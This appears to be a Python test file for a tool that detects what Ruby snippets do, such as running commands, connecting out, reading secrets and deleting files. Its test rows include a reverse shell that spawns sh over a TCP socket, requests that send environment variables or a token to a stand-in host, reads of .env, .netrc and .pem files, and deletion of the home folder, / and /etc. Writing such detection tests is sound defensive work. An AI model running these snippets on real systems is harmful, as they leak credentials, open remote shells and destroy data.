"""Ruby by its calls, its percent literals and its options."""

from __future__ import annotations

from tests.shell.rows import code_rows

test_sockets = code_rows(
    "ruby",
    r"""
TCPSocket.new("h.example", 1) => run ruby [inline] · connect h.example
spawn("sh", [:in, :out]=>TCPSocket.new("h.example", 1)) => run ruby [inline] · connect h.example · run sh <network:h.example>
spawn("sh", in: sock) => run ruby [inline] · run sh
system("make", "test", exception: true) => run ruby [inline] · run make test [runner]
system("rm", x) => run ruby [inline] · run rm □ · write □ [delete]
""",
)

test_what_it_types = code_rows(
    "ruby",
    r"""
IO.popen("sh", "w") { |p| p.puts "rm x" } => run ruby [inline] · run sh <unknown:code> OPAQUE
IO.popen("ls") => run ruby [inline] · run ls
""",
)

test_literals_and_calls = code_rows(
    "ruby",
    r"""
system("rm x") => run ruby [inline] · run rm x · write x [delete]
`rm x` => run ruby [inline] · run rm x · write x [delete]
%x(rm x) => run ruby [inline] · run rm x · write x [delete]
exec "rm", "x" => run ruby [inline] · run rm x · write x [delete]
File.read(".env") => run ruby [inline] · read .env
File.delete("x") => run ruby [inline] · write x [delete]
system("rm #{x}") => run ruby [inline] OPAQUE · run rm □ · write □ [delete]
eval("system('rm x')") => run ruby [inline] · run rm x · write x [delete]
Kernel.send(:system, "rm x") => run ruby [inline] OPAQUE · run rm x · write x [delete]
IO.popen("rm x") => run ruby [inline] · run rm x · write x [delete]
require 'open-uri'; URI.open("https://a.example") => run ruby [inline] · connect https://a.example
puts "system('rm x')" => run ruby [inline]
# system("rm x") => run ruby [inline]
x = "rm x"; system(x) => run ruby [inline] · run rm x · write x [delete]
spawn("rm x") => run ruby [inline] · run rm x · write x [delete]
Dir.glob("*.pem") => run ruby [inline] · read *.pem [list]
FileUtils.rm_rf("x") => run ruby [inline] · write x [delete,tree]
""",
)

test_environment = code_rows(
    "ruby",
    r"""
Net::HTTP.get(URI("https://e.example/" + ENV.to_h.to_s)) => run ruby [inline] · connect https://e.example/□ <environment:>
Net::HTTP.get(URI("https://e.example/" + ENV["TOKEN"] + ENV.fetch("A"))) => run ruby [inline] · connect https://e.example/□
""",
)

test_home_folder = code_rows(
    "ruby",
    r"""
File.write(File.expand_path("~/.bashrc"), "x") => run ruby [inline] · write ~/.bashrc
FileUtils.rm_rf(Dir.home) => run ruby [inline] · write ~ [delete,tree]
File.read(ENV["HOME"] + "/.netrc") => run ruby [inline] · read ~/.netrc
""",
)

test_deletions = code_rows(
    "ruby",
    r"""
Dir.glob("/**/*").each { |f| File.delete(f) } => run ruby [inline] · read /**/* [list] · write /□ [delete,tree]
Dir["/etc/*"].each { |f| File.unlink f } => run ruby [inline] · read /etc/* [list] · write /etc/□ [delete,tree]
Dir["tmp/*.log"].each { |f| puts f } => run ruby [inline] · read tmp/*.log [list]
""",
)
